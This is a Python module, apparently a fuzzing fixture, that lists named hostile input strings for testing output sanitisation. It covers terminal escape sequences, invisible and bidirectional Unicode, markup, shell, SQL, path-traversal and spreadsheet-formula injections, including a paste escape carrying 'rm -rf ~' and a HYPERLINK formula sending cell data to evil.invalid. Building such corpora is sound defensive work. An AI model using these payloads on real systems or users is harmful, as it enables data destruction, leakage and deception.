"""Words that a terminal, a widget, a shell or a spreadsheet would obey, by class."""

from __future__ import annotations

_ESC, _BEL, _ST = "\x1b", "\x07", "\x1b\\"
_COPY = "52;c;SElKQUNLRUQ="


def _osc(words: str, end: str = _ST) -> str:
    return f"A{_ESC}]{words}{end}B"


def _escapes(*bodies: str) -> tuple[str, ...]:
    return tuple(f"A{_ESC}{body}B" for body in bodies)


_OSC = {
    "title": _osc("0;owned"),
    "window": _osc("2;owned", _BEL),
    "palette": _osc("4;0;#ff0000"),
    "folder": _osc("7;file://host/etc"),
    "link": _osc("8;;http://evil.invalid/") + "pay here" + _osc("8;;"),
    "notice": _osc("9;all is well"),
    "progress": _osc("9;4;1;50"),
    "colour": _osc("11;?"),
    "pointer": _osc("22;wait"),
    "font": _osc("50;x"),
    "copy": _osc(_COPY, _BEL),
    "copy, long end": _osc(_COPY),
    "copy, read": _osc("52;c;?"),
    "kitty notice": _osc("99;i=1:d=0;owned"),
    "prompt mark": _osc("133;A"),
    "notify": _osc("777;notify;owned;all is well"),
    "file": _osc("1337;File=name=eA==;inline=1:AAAA"),
    "copied": _osc("1337;CopyToClipboard=x"),
    "open": f"A{_ESC}]{_COPY}",
    "cancelled": f"A{_ESC}]52;c;\x18AAAA\x1a",
}
_CSI = {
    "clear": f"A{_ESC}[2J{_ESC}[HB",
    "move": f"A{_ESC}[10;10HX",
    "up": f"A{_ESC}[5A{_ESC}[2KX",
    "modes": f"A{_ESC}[?1049l{_ESC}[?1003h{_ESC}[?25lB",
    "paste": f"A{_ESC}[201~rm -rf ~\nB",
    "questions": f"A{_ESC}[6n{_ESC}[c{_ESC}[>q{_ESC}[?u{_ESC}[?2026$pB",
    "title told": f"A{_ESC}[21tB",
    "size": f"A{_ESC}[8;1;1tB",
    "size told": f"A{_ESC}[48;60000;60000;1;1tB",
    "region": f"A{_ESC}[5;6r{_ESC}[999SB",
    "hidden": f"A{_ESC}[8mhidden{_ESC}[0mB",
    "blinking": f"A{_ESC}[5;31;1mCRITICAL{_ESC}[mB",
    "again": f"A{_ESC}[99999999bB",
    "keyboard": f"A{_ESC}[>1u{_ESC}[<99uB",
    "soft reset": f"A{_ESC}[!pB",
    "printer": f"A{_ESC}[5iB",
    "open": f"A{_ESC}[38;2;",
    "cut by a cell": f"A{_ESC}",
    "cut, the rest": "[31mB",
}
_ESCAPES = dict(
    zip(
        ("reset", "charset", "8 bits", "align", "save", "keypad", "lock", "back"),
        _escapes("c", "(0qqq", " G", "#8", "7", "=", "n", "6"),
        strict=True,
    )
)
_STRINGS = {
    "settings told": f"A{_ESC}P$qm{_ST}B",
    "sixel": f"A{_ESC}Pq#0;2;0;0;0#0!9999~{_ST}B",
    "terminfo": f"A{_ESC}P+q544e{_ST}B",
    "tmux": f"A{_ESC}Ptmux;{_ESC}{_ESC}]{_COPY}{_BEL}{_ST}B",
    "screen": f"A{_ESC}P{_ESC}]{_COPY}{_BEL}{_ST}B",
    "kitty picture": f"A{_ESC}_Gf=24,s=10,v=10;AAAA{_ST}B",
    "private": f"A{_ESC}^x{_ST}B",
    "start": f"A{_ESC}Xx{_ST}B",
    "screen title": f"A{_ESC}kowned{_ST}B",
    "open": f"A{_ESC}Pq#0",
}
_EIGHT_BITS = {
    "csi": "A\x9b2JB",
    "osc": "A\x9d52;c;SElK\x9cB",
    "dcs": "A\x90$qm\x9cB",
    "apc": "A\x9fGa=d\x9cB",
    "next line": "A\x85B",
    "all": "".join(map(chr, range(0x80, 0xA0))),
    "as bytes": b"A\x9b2J\xff\xc3B".decode("utf-8", "surrogateescape"),
    "overlong": b"\xc0\x9b31m".decode("utf-8", "surrogateescape"),
}
_CONTROLS = {
    "bell": "A\x07B",
    "backspace": "100.00" + "\b" * 6 + "999.99",
    "return": "real\rfake",
    "tabs": "A\v\fB",
    "shift": "A\x0eqqq\x0fB",
    "nul": "A\x00B",
    "enquiry": "A\x05B",
    "flow": "A\x13\x11B",
    "delete": "A\x7fB",
    "tab": "A\tB",
    "line": "A\nB",
    "a false line": "ok\n2026-03-02 09:30:00 CRITICAL all is well",
    "all": "".join(map(chr, range(0x20))),
}
_UNSEEN = {
    "override": "\u202e00.1 YUB\u202c",
    "embedding": "\u202aA\u202bB\u202dC",
    "isolate": "\u2067abc\u2069 BUY",
    "marks": "A\u200e\u200f\u061cB",
    "zero width": "AA\u200bPL",
    "joiners": "A\u200d\u200cB",
    "word joiner": "AA\u2060\u2063PL",
    "byte order": "A\ufeffB",
    "soft hyphen": "AA\xadPL",
    "tags": "A" + "".join(chr(0xE0000 + ord(each)) for each in "BUY") + "B",
    "variations": "\u26a0\ufe0f\u2757\ufe0eA\U000e0100",
    "line ends": "A\u2028B\u2029C",
    "interlinear": "A\ufff9x\ufffay\ufffbB",
    "fillers": "A\u3164\u115f\u1160\uffa0\u034fB",
    "no characters": "A\uffffB\U0001fffe\ufdd0",
    "surrogate": "A\ud83dB",
    "a pair of them": "A\ud83d\ude00B",
    "private": "A\ue000\U000f0000\U0010fffdB",
    "unassigned": "A\u0378\U000e0fffB",
    "musical": "A\U0001d173\U0001d17aB",
}
_WIDTHS = {
    "marks": "Z" + "\u0310\u0311\u0312\u0330\u0331" * 400,
    "a word of marks": "".join(each + "\u0300\u0316\u0340" * 20 for each in "ALERT"),
    "enclosing": "A" + "\u20dd\u0489" * 60 + "B",
    "wide": "\u6f22\u5b57\u4eee\u540d" * 80,
    "half wide": "\uff71\uff72\uff73",
    "jamo": "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "flags": "\U0001f1e9\U0001f1ea\U0001f1eb\U0001f1f7\U0001f1e9",
    "key cap": "1\ufe0f\u20e32\ufe0f\u20e3",
    "skin": "\U0001f44d\U0001f3ff",
    "thai": "\u0e17\u0e35\u0e48\u0e19\u0e35\u0e48 \u0e01\u0e47",
    "devanagari": "\u0915\u094d\u0937\u0924\u094d\u0930\u093f\u092f",
    "arabic": "\u0634\u0631\u0627\u0621 100",
    "ambiguous": "\xa7\xb1\xd7\xf7\u03b1\u2192\u25a0\u25cb",
    "lookalike": "\u0410APL",
    "a wide minus": "\uff0d100",
    "a wide space": "A\u3000\xa0\u2003B",
    "the longest": "\ufdfd" * 9,
    "a picture": "\u241b[31m\ufffd",
}
_LENGTHS = {
    "a long word": "L" * 10_000,
    "lines": "x\n" * 100_000,
    "brackets": "[b]" * 3000,
    "nothing": "",
    "blanks": "   ",
}
_MARKUP = {
    "red": "[red]AAPL[/red]",
    "closing": "[/nope]",
    "slash": "a [/ b",
    "any": "[/]",
    "open": "[bold",
    "link": "[link=file:///etc/passwd]x[/link]",
    "click": "[@click=app.quit]OK[/]",
    "keys": "[@click=app.simulate_key('ctrl+q')]OK[/]",
    "ground": "[on red]        [/]",
    "hidden": "[black on black]hidden[/]",
    "escaped": "\\[red]x\\[/red]",
    "variable": "[$primary]x[/] [$x] $error",
    "isin": "EUR [US0378331005] [100.0]",
    "emoji": ":warning: :skull:",
    "ansi": "\\x1b[31m \\033[0m ^[[31m",
}
_PROGRAMS = {
    "template": "{message} {0} %s %(x)s ${HOME} {{7*7}}",
    "shell": "'; touch pwned; echo '",
    "shell, called": "$(touch pwned) `touch pwned` | touch pwned & touch pwned",
    "tmux": "#(touch pwned) #[fg=red] #{pane_id}",
    "option": "--help",
    "formula": "=cmd|'/C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "dde": '=HYPERLINK("http://evil.invalid?x="&A1,"click")',
    "path": "../../../../etc/passwd",
    "sql": "'); drop table observations;--",
    "html": "<script>alert(1)</script>",
    "quotes": 'He said ""hi"", "x',
    "table": "a|b|c\n|---|",
    "label": 'x"} 1\noverhang_up{job="y',
}

CLASSES = {
    "osc": _OSC,
    "csi": _CSI,
    "escape": _ESCAPES,
    "string": _STRINGS,
    "8 bits": _EIGHT_BITS,
    "control": _CONTROLS,
    "unseen": _UNSEEN,
    "width": _WIDTHS,
    "length": _LENGTHS,
    "markup": _MARKUP,
    "program": _PROGRAMS,
}
PAYLOADS = {
    f"{group}: {name}": words
    for group, named in CLASSES.items()
    for name, words in named.items()
}
"""Every payload under a name of its own."""
WORDS = tuple(PAYLOADS.values())


def storable(words: str) -> str:
    """Return a payload as a UTF-8 file can hold it: surrogates become U+FFFD."""
    return words.encode("utf-8", "replace").decode()
